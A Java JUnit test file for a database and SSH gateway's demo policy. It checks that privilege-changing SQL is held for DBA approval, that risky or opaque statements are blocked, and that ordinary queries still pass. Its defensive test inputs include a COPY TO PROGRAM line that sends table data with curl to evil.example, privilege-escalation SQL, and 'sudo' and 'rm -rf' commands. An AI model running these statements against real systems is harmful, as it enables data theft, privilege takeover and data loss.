package dev.tracegate.cli.demo;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tracegate.masking.HashKey;
import dev.tracegate.policy.rules.Action;
import dev.tracegate.policy.rules.Decision;
import dev.tracegate.policy.rules.Policy;
import dev.tracegate.policy.rules.PolicyEngine;
import dev.tracegate.policy.rules.SshRequestFacts;
import dev.tracegate.policy.rules.PolicyParser;
import dev.tracegate.policy.rules.Subject;
import dev.tracegate.policy.sql.SqlClassifier;
import dev.tracegate.policy.sql.SqlDialect;
import dev.tracegate.policy.sql.StatementClass;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The demo's policy against the statements issue 15 found running unchecked as the demo's
 * {@code analyst}: each privilege change is now held for a DBA, what cannot be classified or
 * reaches outside the database is blocked, and what the demo advertises still works.
 */
class DemoPolicyTest {

    private final Policy policy = PolicyParser.parse(DemoPolicy.TEXT, HashKey.of(new byte[HashKey.MIN_BYTES]));
    private final SqlClassifier classifier = new SqlClassifier();
    /** The demo's analyst (DemoEnvironment): group analysts, on the shop database. */
    private final Subject analyst = new Subject("shop", "postgres", Set.of("analysts"), "human");

    private Decision decide(String sql) {
        return PolicyEngine.decide(policy, analyst, classifier.classify(sql));
    }

    @Test
    void theFourStatementsOfTheIssueAreHeldForADba() {
        List<String> reported = List.of(
                "ALTER TABLE orders ADD COLUMN x text, OWNER TO CURRENT_USER",
                """
                CREATE FUNCTION touch_all() RETURNS void LANGUAGE sql SECURITY DEFINER AS $$
                    UPDATE orders SET status = status
                $$""",
                "ALTER ROLE CURRENT_USER SET search_path = public, evil",
                "DROP OWNED BY CURRENT_USER");
        for (String sql : reported) {
            Decision decision = decide(sql);
            assertThat(decision.statementClass()).as(sql).isEqualTo(StatementClass.PRIVILEGE);
            assertThat(decision.action()).as(sql).isEqualTo(Action.APPROVE);
            assertThat(decision.rule()).isEqualTo("hold-ddl");
            assertThat(decision.approval().approverGroups()).containsExactly("dba");
        }
    }

    @Test
    void theirSiblingsAreHeldOrBlockedToo() {
        for (String sql : List.of("REASSIGN OWNED BY CURRENT_USER TO postgres",
                "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC", "GRANT ALL ON customers TO PUBLIC",
                "ALTER TABLE customers ADD COLUMN y int, DISABLE ROW LEVEL SECURITY", "CREATE POLICY p ON customers USING (true)",
                "ALTER SCHEMA public OWNER TO CURRENT_USER")) {
            assertThat(decide(sql).action()).as(sql).isEqualTo(Action.APPROVE);
        }
        // The CTE body with a WITH of its own (finding 2) is a bulk delete: blocked.
        Decision nested = decide("WITH d AS (WITH x AS (SELECT 1) DELETE FROM orders RETURNING 1) SELECT count(*) FROM d");
        assertThat(nested.action()).isEqualTo(Action.BLOCK);
        assertThat(nested.rule()).isEqualTo("no-bulk-writes");
        // hold-ddl matches these as well, but cannot weaken highRisk: block.
        for (String sql : List.of("COPY orders TO PROGRAM 'curl -d @- http://evil.example'",
                "DO $$ BEGIN EXECUTE 'DROP OWNED BY CURRENT_USER'; END $$", "SET ROLE postgres")) {
            Decision decision = decide(sql);
            assertThat(decision.action()).as(sql).isEqualTo(Action.BLOCK);
            assertThat(decision.rule()).isEqualTo("default:high-risk");
        }
    }

    @Test
    void aStoredProcedureCallOnTheMysqlShopIsBlockedSinceItsBodyIsNotRead() {
        // A procedure may run anything (a KILL of another session among it): the gateway sees only the CALL.
        for (String group : List.of("analysts", "dba", "pii-readers")) {
            Subject caller = new Subject("shop-mysql", "mysql", Set.of(group), "human");
            for (String sql : List.of("CALL stop_other()", "CALL shop.p(1, 'x')", "/*!CALL p()*/")) {
                Decision decision = PolicyEngine.decide(policy, caller, classifier.classify(sql, SqlDialect.MYSQL,
                        name -> Optional.empty()));
                assertThat(decision.statementClass()).as(sql).isEqualTo(StatementClass.UNKNOWN);
                assertThat(decision.action()).as(group + ": " + sql).isEqualTo(Action.BLOCK);
                assertThat(decision.rule()).isEqualTo("default:high-risk");
            }
        }
    }

    @Test
    void whatTheDemoAdvertisesStillWorks() {
        assertThat(decide("SELECT * FROM customers LIMIT 5").action()).isEqualTo(Action.ALLOW);
        assertThat(decide("UPDATE orders SET status = 'paid' WHERE id = 7").action()).isEqualTo(Action.ALLOW);
        assertThat(decide("DELETE FROM orders").action()).isEqualTo(Action.BLOCK);
        assertThat(decide("ALTER TABLE orders ADD COLUMN note text").action()).isEqualTo(Action.APPROVE);
        Subject dba = new Subject("shop", "postgres", Set.of("dba"), "human");
        assertThat(PolicyEngine.decide(policy, dba, classifier.classify("ALTER TABLE orders ADD COLUMN note text"))
                .action()).as("DBAs are held too, and approve each other's").isEqualTo(Action.APPROVE);
    }

    @Test
    void whatTheDemoAdvertisesOnTheSshHostStillWorks() {
        Subject analyst = new Subject("host", "ssh", Set.of("analysts"), "human");
        assertThat(PolicyEngine.decide(policy, analyst, SshRequestFacts.shell()).action()).isEqualTo(Action.ALLOW);
        assertThat(PolicyEngine.decide(policy, analyst, SshRequestFacts.exec("uname -a")).action()).isEqualTo(Action.ALLOW);
        assertThat(PolicyEngine.decide(policy, analyst, SshRequestFacts.exec("sudo id")).action()).isEqualTo(Action.BLOCK);
        assertThat(PolicyEngine.decide(policy, analyst, SshRequestFacts.exec("touch /etc/motd")).action())
                .isEqualTo(Action.APPROVE);
        assertThat(PolicyEngine.decide(policy, analyst, SshRequestFacts.exec("rm -rf build")).action())
                .isEqualTo(Action.BLOCK);
    }

    @Test
    void anUneditedEarlierPolicyIsBroughtUpToDateAndAnEditedOneIsKept(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("policy.yaml");
        Files.writeString(file, earlierPolicy(), StandardCharsets.UTF_8);
        DemoPolicy.writeOnce(file);
        assertThat(Files.readString(file)).isEqualTo(DemoPolicy.TEXT).contains("minClass: ddl");

        String edited = earlierPolicy().replace("timeout: 15m", "timeout: 30m");
        Files.writeString(file, edited, StandardCharsets.UTF_8);
        DemoPolicy.writeOnce(file);
        assertThat(Files.readString(file)).isEqualTo(edited);
    }

    /**
     * The policy the demo wrote before rules could match by risk: the same text without the SSH
     * host's rules and the MySQL connection, with {@code classes: [ddl]}.
     */
    private static String earlierPolicy() {
        return DemoPolicy.TEXT.substring(0, DemoPolicy.TEXT.indexOf("  - name: ssh-shells\n"))
                .replace("connections: [shop, shop-mysql, traces]", "connections: [shop, traces]")
                .replace("connections: [shop, shop-mysql]", "connections: [shop]")
                .replace("    minClass: ddl              # DDL and riskier: privilege changes too (unknown and dangerous stay blocked)\n",
                        "    classes: [ddl]\n")
                .replace("reason: schema and privilege changes on shop need a DBA's approval",
                        "reason: schema changes on shop need a DBA's approval");
    }
}
